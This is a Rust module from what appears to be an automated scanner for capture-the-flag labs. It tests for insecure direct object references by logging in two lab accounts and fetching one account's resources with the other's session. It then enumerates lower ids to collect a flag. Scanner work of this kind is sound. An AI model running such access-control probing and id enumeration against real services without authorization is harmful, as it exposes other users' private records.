//! IDOR agent: authenticated differential testing across resource
//! identifiers using two distinct lab accounts.

use std::collections::BTreeSet;

use async_trait::async_trait;
use once_cell::sync::Lazy;
use regex::Regex;
use url::Url;

use super::{Agent, AgentCx, AgentError, AgentOutput};
use crate::http::{HttpError, RequestSpec, Session};
use crate::state::{
    AttemptOutcome, Channel, Evidence, EvidenceDetail, Finding, InjectionPoint, TraceRequest,
    VulnClass,
};

/// Log a fixture account in without touching the engine's active session;
/// the response cookie becomes an immutable session snapshot.
async fn login(
    cx: &AgentCx<'_>,
    base: &Url,
    user: &str,
    pass: &str,
) -> Result<Option<(Session, TraceRequest)>, HttpError> {
    let login_url = match base.join("login") {
        Ok(u) => u,
        Err(_) => return Ok(None),
    };
    let body = format!(
        "user={}&pass={}",
        crate::http::percent_encode_bytes(user.as_bytes()),
        crate::http::percent_encode_bytes(pass.as_bytes())
    );
    // Login directly, without redirect-following side effects on cookies.
    let spec = RequestSpec::post(login_url, body.into_bytes(), "application/x-www-form-urlencoded")
        .phase("auth")
        .no_cookie_recording()
        .no_redirects()
        .with_session(Session::default());
    let resp = cx.engine.send(spec).await?;
    let mut session = Session::default();
    for set_cookie in resp.headers_all("set-cookie") {
        if let Some((k, v)) = set_cookie.split(';').next().and_then(|p| p.split_once('=')) {
            session.cookies.insert(k.trim().to_string(), v.trim().to_string());
        }
    }
    if session.is_empty() {
        return Ok(None);
    }
    // The login POST itself is the replayable session-establishing request.
    Ok(Some((session, resp.request.clone())))
}

static ID_LINK: Lazy<Regex> = Lazy::new(|| Regex::new(r#"href="([^"]+/)(\d+)""#).expect("id link"));

/// Resource ids visible to a session on the listing pages.
async fn owned_ids(
    cx: &AgentCx<'_>,
    session: &Session,
    listing_pages: &[Url],
    resource_prefix: &str,
) -> Vec<u64> {
    let mut ids = BTreeSet::new();
    for page in listing_pages {
        let spec = RequestSpec::get(page.clone())
            .phase("probe")
            .no_cookie_recording()
            .with_session(session.clone());
        let Ok(resp) = cx.engine.send(spec).await else { continue };
        let body = resp.body_text().into_owned();
        for caps in ID_LINK.captures_iter(&body) {
            if caps[1].ends_with(resource_prefix) {
                if let Ok(id) = caps[2].parse() {
                    ids.insert(id);
                }
            }
        }
    }
    ids.into_iter().collect()
}

fn resource_url(point: &InjectionPoint, id: u64) -> Option<Url> {
    let idx: usize = point.name.parse().ok()?;
    let mut url = point.endpoint.url.clone();
    let segments: Vec<String> =
        url.path_segments().map(|s| s.map(String::from).collect()).unwrap_or_default();
    if idx >= segments.len() {
        return None;
    }
    let mut path = String::new();
    for (i, seg) in segments.iter().enumerate() {
        path.push('/');
        if i == idx {
            path.push_str(&id.to_string());
        } else {
            path.push_str(seg);
        }
    }
    url.set_path(&path);
    Some(url)
}

async fn fetch_as(
    cx: &AgentCx<'_>,
    url: &Url,
    session: &Session,
) -> Result<crate::http::TimedResponse, HttpError> {
    let spec = RequestSpec::get(url.clone())
        .phase("exploit")
        .no_cookie_recording()
        .with_session(session.clone());
    cx.engine.send(spec).await
}

/// For each resource id owned by account B, request it as account A; a
/// finding requires A to receive B's exact object, with B's own fetch as the
/// allowed baseline and A's own object as the differing control.
pub async fn idor_scan(
    cx: &mut AgentCx<'_>,
    points: &[InjectionPoint],
) -> Result<Option<Finding>, AgentError> {
    if cx.demo_creds.len() < 2 {
        tracing::debug!("idor gated off: fewer than two lab accounts available");
        return Ok(None);
    }
    let Some(point) = points.first() else { return Ok(None) };
    let base = {
        let mut u = point.endpoint.url.clone();
        u.set_query(None);
        let path = u.path().to_string();
        let dir = &path[..path.rfind('/').map(|i| i + 1).unwrap_or(1)];
        // Resource paths sit one level below the challenge directory.
        let parent = dir.trim_end_matches('/').rfind('/').map(|i| &dir[..i + 1]).unwrap_or("/");
        u.set_path(parent);
        u
    };

    let (user_a, pass_a) = cx.demo_creds[0].clone();
    let (user_b, pass_b) = cx.demo_creds[1].clone();
    let Some((session_a, login_a_req)) = login(cx, &base, &user_a, &pass_a).await? else {
        return Ok(None);
    };
    let Some((session_b, login_b_req)) = login(cx, &base, &user_b, &pass_b).await? else {
        return Ok(None);
    };

    let listing_pages: Vec<Url> = cx
        .render_pages
        .iter()
        .filter(|p| p.path().starts_with(base.path()))
        .cloned()
        .collect();
    let resource_prefix = {
        let path = point.endpoint.url.path();
        let idx: usize = point.name.parse().unwrap_or(0);
        let segments: Vec<&str> = path.split('/').filter(|s| !s.is_empty()).collect();
        segments
            .get(idx.saturating_sub(1).min(segments.len().saturating_sub(1)))
            .map(|s| format!("{s}/"))
            .unwrap_or_default()
    };

    let b_ids = owned_ids(cx, &session_b, &listing_pages, &resource_prefix).await;
    let a_ids = owned_ids(cx, &session_a, &listing_pages, &resource_prefix).await;

    let mut finding: Option<Finding> = None;
    for b_id in &b_ids {
        if a_ids.contains(b_id) || cx.out_of_time() {
            continue;
        }
        let Some(url) = resource_url(point, *b_id) else { continue };
        let b_fetch = fetch_as(cx, &url, &session_b).await?;
        if b_fetch.status != 200 {
            continue;
        }
        let a_fetch = fetch_as(cx, &url, &session_a).await?;
        let payload = url.to_string();
        if a_fetch.status != 200 {
            // Properly authorized: denied for the non-owner.
            cx.register(
                &point.key(),
                VulnClass::Idor,
                payload.as_bytes(),
                AttemptOutcome::Blocked,
                &a_fetch.body,
            );
            continue;
        }
        let b_digest = cx.digests.digest(&b_fetch.body);
        let a_digest = cx.digests.digest(&a_fetch.body);
        if a_digest != b_digest {
            cx.register(
                &point.key(),
                VulnClass::Idor,
                payload.as_bytes(),
                AttemptOutcome::PartialSignal,
                &a_fetch.body,
            );
            continue;
        }
        // A received B's exact object. A's own object is the differing
        // control demonstrating the leak is not A's data.
        let own_control = match a_ids.first().and_then(|id| resource_url(point, *id)) {
            Some(own_url) => Some(fetch_as(cx, &own_url, &session_a).await?),
            None => None,
        };
        let differing_digest = own_control
            .as_ref()
            .map(|r| cx.digests.digest(&r.body))
            .unwrap_or_else(|| cx.digests.digest(b"no-owned-object"));
        let mut trace = vec![
            login_a_req.clone(),
            login_b_req.clone(),
            b_fetch.request.clone(),
        ];
        if let Some(own) = &own_control {
            trace.push(own.request.clone());
        }
        trace.push(a_fetch.request.clone());
        let flag = cx.flag_in(&a_fetch.body);
        let f = Finding {
            vuln_class: VulnClass::Idor,
            point: point.key(),
            payload: payload.into_bytes(),
            evidence: Evidence {
                detail: EvidenceDetail::DifferentialResponse {
                    summary: format!(
                        "account {user_a} retrieved {user_b}'s object id={b_id} byte-identically"
                    ),
                    matched_digest: b_digest,
                    differing_digest,
                },
                request_trace: trace,
            },
            solved_flag: flag,
            elapsed_s: cx.elapsed_s(),
            tokens_spent: cx.tokens_spent(),
            exploit_attempts: 2,
        };
        cx.emit_finding(f.clone(), &a_fetch.body);
        finding = Some(f);
        break;
    }

    // Identifier enumeration below the observed range harvests fixture
    // objects (and the flag) when authorization is absent.
    if let Some(f) = &mut finding {
        if f.solved_flag.is_none() {
            let low = *b_ids.iter().min().unwrap_or(&1);
            for id in 1..low {
                if cx.out_of_time() {
                    break;
                }
                let Some(url) = resource_url(point, id) else { continue };
                let resp = fetch_as(cx, &url, &session_a).await?;
                let body = resp.body_text().into_owned();
                if resp.status == 200 {
                    if let Some(flag) = cx.flag_in(body.as_bytes()) {
                        f.solved_flag = Some(flag.clone());
                        f.evidence.request_trace.push(resp.request.clone());
                        // Patch the recorded finding in scan state too.
                        if let Some(recorded) = cx
                            .state
                            .findings
                            .iter_mut()
                            .find(|sf| sf.point == f.point && sf.vuln_class == VulnClass::Idor)
                        {
                            recorded.solved_flag = Some(flag.clone());
                            recorded.evidence.request_trace.push(resp.request.clone());
                            if !cx.state.solved_flags.contains(&flag) {
                                cx.state.solved_flags.push(flag);
                            }
                        }
                        break;
                    }
                }
            }
        }
    }
    Ok(finding)
}

pub struct IdorAgent;

#[async_trait]
impl Agent for IdorAgent {
    fn class(&self) -> VulnClass {
        VulnClass::Idor
    }

    async fn run(&self, cx: &mut AgentCx<'_>) -> Result<AgentOutput, AgentError> {
        let mut output = AgentOutput::default();
        let points: Vec<InjectionPoint> = cx
            .state
            .surface
            .iter()
            .filter(|p| {
                p.channel == Channel::PathSegment
                    && p.baseline_value.chars().all(|c| c.is_ascii_digit())
            })
            .cloned()
            .collect();
        if points.is_empty() {
            return Ok(output);
        }
        match idor_scan(cx, &points).await {
            Ok(Some(_)) => output.findings_added += 1,
            Ok(None) => {}
            Err(err) if err.is_budget() => return Err(err),
            Err(err) => tracing::debug!(%err, "idor scan failed"),
        }
        Ok(output)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::state::Endpoint;

    #[test]
    fn resource_url_substitutes_id_segment() {
        let point = InjectionPoint {
            endpoint: Endpoint::get(Url::parse("http://t/c/idor/invoice/4").unwrap()),
            channel: Channel::PathSegment,
            name: "3".into(),
            baseline_value: "4".into(),
        };
        let url = resource_url(&point, 1).unwrap();
        assert_eq!(url.path(), "/c/idor/invoice/1");
    }

    #[test]
    fn id_link_pattern_finds_invoice_links() {
        let body = r#"<li><a href="invoice/4">invoice/4</a></li><a href="/c/idor/invoice/7">x</a>"#;
        let ids: Vec<u64> = ID_LINK
            .captures_iter(body)
            .filter(|c| c[1].ends_with("invoice/"))
            .map(|c| c[2].parse().unwrap())
            .collect();
        assert_eq!(ids, vec![4, 7]);
    }
}
